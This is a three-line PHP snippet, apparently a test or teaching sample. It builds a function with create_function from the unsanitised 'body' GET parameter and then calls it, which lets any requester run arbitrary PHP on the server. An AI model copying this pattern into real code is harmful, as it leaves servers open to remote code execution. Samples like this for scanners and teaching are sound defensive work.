<?php
$f = create_function('$x', 'return ' . $_GET['body'] . ';');
echo (int) $f(2);
